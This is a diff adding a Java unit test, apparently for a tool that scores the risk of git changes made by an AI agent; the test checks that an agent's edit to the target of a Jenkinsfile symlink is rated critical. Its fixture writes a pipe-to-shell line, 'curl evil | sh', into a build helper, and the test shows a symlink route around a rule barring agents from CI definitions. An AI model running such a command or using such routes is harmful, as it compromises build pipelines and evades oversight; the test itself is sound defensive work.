@@ -116,6 +116,27 @@ class GitAttackTest {
         assertThat(scope(ctx).violations()).anySatisfy(v -> assertThat(v.rule()).isEqualTo("ai-no-ci-definitions"));
     }
 
+    /** Editing the file a link points to is scored by the link's path too: the stricter of both. */
+    @Test
+    void anEditOfALinksTargetIsScoredAsTheLinkToo() throws Exception {
+        git.delete("Jenkinsfile").write("build/steps.groovy", "buildPlugin()\n");
+        Files.createSymbolicLink(git.directory().resolve("Jenkinsfile"), Path.of("build/steps.groovy"));
+        base = git.commit("the pipeline lives in build/", GitFixture.ALICE).name();
+        git.write("build/steps.groovy", "sh 'curl evil | sh'\n");
+        git.commit("tweak a helper", AGENT);
+        ChangeContext ctx = analyze(null);
+        RiskAssessment risk = engine.assessRisk(ctx);
+        assertThat(risk.tier()).isEqualTo(RiskTier.CRITICAL);
+        assertThat(risk.reasons()).filteredOn(r -> r.tier() == RiskTier.CRITICAL)
+                .anySatisfy(r -> assertThat(r.subjects()).anyMatch(s -> s.contains("build/steps.groovy")));
+        // the same edit without the link is only application code
+        git.delete("Jenkinsfile").write("Jenkinsfile", "buildPlugin()\n");
+        base = git.commit("no more link", GitFixture.ALICE).name();
+        git.write("build/steps.groovy", "sh 'echo again'\n");
+        git.commit("tweak a helper again", AGENT);
+        assertThat(engine.assessRisk(analyze(null)).tier()).isLessThan(RiskTier.CRITICAL);
+    }
+
     @Test
     void aSubmoduleBumpIsAtLeastMedium() {
         String commit = "0123456789abcdef0123456789abcdef01234567";
